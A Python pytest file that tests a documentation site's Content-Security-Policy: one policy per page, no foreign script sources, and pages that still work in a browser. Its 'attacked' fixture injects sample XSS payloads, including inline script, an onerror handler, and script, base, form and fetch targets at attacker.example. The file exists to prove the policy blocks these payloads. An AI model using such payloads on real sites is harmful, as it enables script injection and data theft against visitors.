"""Each page's Content-Security-Policy: it lets the page work, and stops what somebody else put into it."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from kvworkshop.pages import command, policy

from .conftest import Built, served
from .visit import Watched, playwright


class Order(HTMLParser):
    """The policy of a page, what stands before it in the head, and attributes that hold code or styles."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.policies: list[str] = []
        self.before: list[str] = []
        self.held: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if a.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(a["content"])
        elif not self.policies:
            self.before.append(tag)
        self.held += [f"{tag} {k}={v}" for k, v in a.items() if k.startswith("on") or k == "style"]
        self.held += [f"{tag} {k}={v}" for k, v in a.items() if re.match(r"\s*(javascript|data|vbscript):", v)]


def _pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("*.html"))


@pytest.fixture(scope="module", params=["mkdocs", "zensical"])
def site(request: pytest.FixtureRequest) -> Path:
    if request.param == "zensical":
        return request.getfixturevalue("zensical")
    return request.getfixturevalue("built").html


def test_every_page_has_one_policy_before_all_that_it_is_about(site: Path) -> None:
    assert len(_pages(site)) > 100
    for page in _pages(site):
        seen = Order(page.read_text(encoding="utf-8"))
        assert len(seen.policies) == 1, page
        assert seen.before == ["html", "head", "meta"], page


def test_no_policy_lets_an_unknown_script_run_or_ask_another_host(site: Path) -> None:
    for page in _pages(site):
        (said,) = Order(page.read_text(encoding="utf-8")).policies
        rules = {name: words for name, *words in (rule.split() for rule in said.split(";"))}
        assert rules["default-src"] == ["'none'"]
        assert rules["connect-src"] == ["'self'"]
        foreign = [
            w for w in rules["script-src"] if not re.fullmatch(r"'self'|'wasm-unsafe-eval'|'sha256-[\w+/]{43}='", w)
        ]
        assert not foreign, page
        assert ("'wasm-unsafe-eval'" in rules["script-src"]) is (page.parent.name == "playground"), page
        assert not any("*" in w or ":" in w for words in rules.values() for w in words if w != "data:"), page


def test_only_pages_with_diagrams_may_write_styles(built: Built) -> None:
    loose = [p.parent.name for p in _pages(built.html) if "style-src 'self' 'unsafe-inline'" in p.read_text("utf-8")]
    assert loose == ["design", "request-flow", "states", "threat-model"]


def test_no_page_holds_code_or_a_style_in_an_attribute(site: Path) -> None:
    for page in _pages(site):
        assert not Order(page.read_text(encoding="utf-8")).held, page


def test_every_page_works_under_its_policy(reader: Callable[..., Watched], built: Built) -> None:
    """The console of a browser stays empty on all of them: no violation, no script that fails, nothing missing."""
    visit = reader()
    for page in _pages(built.html):
        visit.page.goto(visit.address + page.relative_to(built.html).as_posix())
        assert not visit.faults, page


def test_search_and_palette_work_under_the_policy_of_zensical(
    zensical: Path,
    browser: playwright.Browser,
) -> None:
    with served(zensical) as address:
        page = browser.new_page(color_scheme="light")
        said: list[str] = []
        page.on("console", lambda m: said.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: said.append(str(e)))
        for path in ("", "migration/", "explanation/design/", "does-my-release-care/"):
            page.goto(address + path, wait_until="networkidle")
        page.get_by_title("Switch to dark mode").click()
        page.locator("body[data-md-color-scheme=slate]").wait_for()
        page.goto(address + "explanation/states/")
        page.locator("pre.mermaid").first.wait_for(state="detached")
        assert not said


@pytest.fixture
def attacked(browser: playwright.Browser, address: str) -> Iterator[playwright.Page]:
    """A page into whose text somebody has brought a script, in each of the usual ways.

    It is not a ``reader``'s page: the violations that its console tells are wanted, and some come after the test.
    """
    bad = (
        "<script>window.owned = 'script'</script><img src=x: onerror=\"window.owned = 'handler'\">"
        '<script src="https://attacker.example/x.js"></script><base href="https://attacker.example/">'
        '<form action="https://attacker.example/"><button id="give">x</button></form>'
        "<a id=link href=\"javascript:window.owned = 'address'\">x</a>"
    )

    def spoiled(route: playwright.Route) -> None:
        got = route.fetch()
        route.fulfill(response=got, body=got.text().replace("<article", f"{bad}<article", 1))

    page = browser.new_page()
    page.set_default_timeout(120_000)
    page.route("**/changelog/", spoiled)
    page.goto(address + "changelog/", wait_until="networkidle")
    yield page
    page.close()


def test_a_script_that_got_into_a_page_does_not_run(attacked: playwright.Page) -> None:
    with attacked.expect_console_message(lambda m: "JavaScript URL" in m.text):  # the browser answers a click later
        attacked.locator("#link").dispatch_event("click")
    assert attacked.evaluate("window.owned") is None


def test_a_page_cannot_send_anything_to_another_host(attacked: playwright.Page) -> None:
    asked: list[str] = []
    attacked.on("request", lambda r: asked.append(r.url))
    failed = attacked.evaluate("fetch('https://attacker.example/').then(() => false, () => true)")
    assert failed
    with attacked.expect_console_message(lambda m: "form-action" in m.text):
        attacked.locator("#give").dispatch_event("click")
    assert attacked.evaluate("document.baseURI.includes('attacker')") is False
    assert not [url for url in asked if "attacker" in url]


def test_the_page_at_the_first_address_leads_on_and_keeps_what_stood_behind_it(
    reader: Callable[..., Watched],
) -> None:
    visit = reader()
    visit.page.goto(visit.address.removesuffix("dev/") + "?q=rollback#x", wait_until="networkidle")
    assert visit.page.url.endswith("/latest/?q=rollback#x")


def test_sealing_twice_leaves_one_policy() -> None:
    html = '<html><head><meta charset="utf-8"><script>a()</script></head></html>'
    once = policy.sealed(html)
    assert policy.sealed(once) == once
    assert "'sha256-" in once


def test_a_page_that_cannot_be_sealed_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "odd.html").write_text("<p>no head</p>")
    assert command.main(["--seal", str(tmp_path)]) == 4
    assert "odd.html" in capsys.readouterr().err


def test_a_preview_is_not_sealed(tmp_path: Path) -> None:
    """``mkdocs serve`` adds a script of its own, which reloads the page."""
    page = tmp_path / "index.html"
    page.write_text('<head><meta charset="utf-8"></head>')
    policy.on_startup(command="serve", dirty=False)
    policy.on_post_build({"site_dir": str(tmp_path)})
    assert "Content-Security-Policy" not in page.read_text()
    policy.on_startup(command="build", dirty=False)
    policy.on_post_build({"site_dir": str(tmp_path)})
    assert "Content-Security-Policy" in page.read_text()
